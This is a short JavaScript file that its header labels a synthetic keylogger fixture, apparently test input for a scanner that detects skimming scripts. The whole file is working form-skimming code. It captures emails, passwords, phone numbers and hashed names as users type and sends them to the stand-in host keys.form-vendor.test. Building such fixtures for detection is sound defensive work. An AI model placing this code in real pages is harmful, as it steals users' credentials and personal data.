/* SYNTHETIC keylogger (cookiescan fixture web): sends field values as they are typed. */
(function () {
  function sha256(text) {
    return crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)).then(function (buf) {
      return Array.from(new Uint8Array(buf)).map(function (b) { return b.toString(16).padStart(2, "0"); }).join("");
    });
  }
  document.addEventListener("change", function (e) {
    var el = e.target, v = el.value || "";
    if (!v) return;
    if (el.type === "email") new Image().src = "https://keys.form-vendor.test/k?f=" + el.name + "&v=" + encodeURIComponent(v);
    if (el.name === "fullname") sha256(v.trim().toLowerCase()).then(function (h) {
      fetch("https://keys.form-vendor.test/h", {method: "POST", body: JSON.stringify({f: el.name, h: h}), mode: "no-cors"});
    });
    if (el.type === "tel") new Image().src = "https://keys.form-vendor.test/p?d=" + encodeURIComponent(btoa(v));
    if (el.type === "password") new Image().src = "https://keys.form-vendor.test/pw?v=" + encodeURIComponent(v);
  }, true);
})();
